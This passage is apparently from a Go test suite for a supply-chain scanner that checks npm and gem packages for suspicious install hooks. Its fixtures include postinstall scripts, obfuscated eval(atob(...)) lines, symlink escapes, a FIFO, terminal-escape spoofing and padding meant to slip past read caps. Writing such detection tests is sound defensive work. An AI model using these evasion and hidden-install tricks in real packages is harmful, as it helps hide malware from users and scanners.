		"lib/x.rb":         "require 'x/x'\nmodule X\n  def self.run = system('true')\nend\n",
		"x.gemspec":        "Gem::Specification.new do |s|\n  s.name = 'x'\n  s.files = `git ls-files -z`.split(\"\\x0\")\n  s.extensions = ['ext/x/extconf.rb']\nend\n",
	}}).check(t)
}

// The tree is attacker input: a symlink out of it is not followed, a FIFO does not
// hang the read, a file over the cap is reported instead of half-judged.
func TestHostileTree(t *testing.T) {
	dir := writeTree(t, map[string]string{
		"package.json": pkgJSON(`"postinstall":"node install.js && node fifo.js && node big.js"`),
		"big.js":       "// big\n" + strings.Repeat("x = 1;\n", (maxFileBytes/7)+10),
	})
	secret := filepath.Join(t.TempDir(), "secret.js")
	if err := os.WriteFile(secret, []byte("eval(atob('eA=='))\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(secret, filepath.Join(dir, "install.js")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Dir(secret), filepath.Join(dir, "lib")); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(dir, "fifo.js"), 0o644); err != nil {
		t.Fatal(err)
	}
	fs, err := Dir(context.Background(), Package{"npm", "x", "1"}, dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range fs {
		if f.Rule == RuleEvalDecode {
			t.Errorf("read through a symlink: %v", f)
		}
	}
	found := false
	for _, f := range fs {
		found = found || f.Rule == RuleOversized && f.Severity == Medium
	}
	if !found {
		t.Errorf("want %s for big.js; got %s", RuleOversized, dump(fs))
	}
	tr, _ := openTree(dir)
	defer tr.close()
	if _, _, err := tr.read("lib/secret.js"); err == nil {
		t.Error("read lib/secret.js through a directory symlink")
	}
	if _, _, err := tr.read("../" + filepath.Base(dir) + "/package.json"); err == nil {
		t.Error("read a path with ..")
	}
}

func TestEvidenceIsPrintable(t *testing.T) {
	dir := writeTree(t, map[string]string{
		"package.json": pkgJSON(`"postinstall":"node i.js"`),
		"i.js":         "\x1b[2J\u202e" + strings.Repeat(" ", 50) + "eval(atob('" + strings.Repeat("QUFB", 100) + "'))\n",
	})
	fs, err := Dir(context.Background(), Package{"npm", "x", "1"}, dir)
	if err != nil || len(fs) == 0 {
		t.Fatalf("%v %v", fs, err)
	}
	e := fs[0].Evidence[0]
	if strings.ContainsAny(e, "\x1b\u202e\n") || len([]rune(e)) > 140 {
		t.Errorf("evidence not cut or escaped: %q", e)
	}
	if !strings.HasPrefix(e, "i.js:1: ") {
		t.Errorf("evidence %q does not start with file:line", e)
	}
}

// Padding a package past the read cap does not hide the install script that
// matters: what was left unread is a finding.
func TestReadCapIsReported(t *testing.T) {
	defer func(n int64) { maxTotalBytes = n }(maxTotalBytes)
	maxTotalBytes = 1 << 20
	pad := "// " + strings.Repeat("x", 600<<10) + "\n"
	dir := writeTree(t, map[string]string{
		"package.json": pkgJSON(`"postinstall":"node a.js && node b.js && node c.js"`),
		"a.js":         pad, "b.js": pad,
		"c.js": "eval(atob('eA=='))\n",
	})
	fs, err := Dir(context.Background(), Package{"npm", "x", "1"}, dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range fs {
		if f.Rule == RuleOversized && f.Severity == Medium && strings.Contains(strings.Join(f.Evidence, " "), "c.js") {
			return
		}
	}
	t.Errorf("want %s naming c.js; got %s", RuleOversized, dump(fs))
}
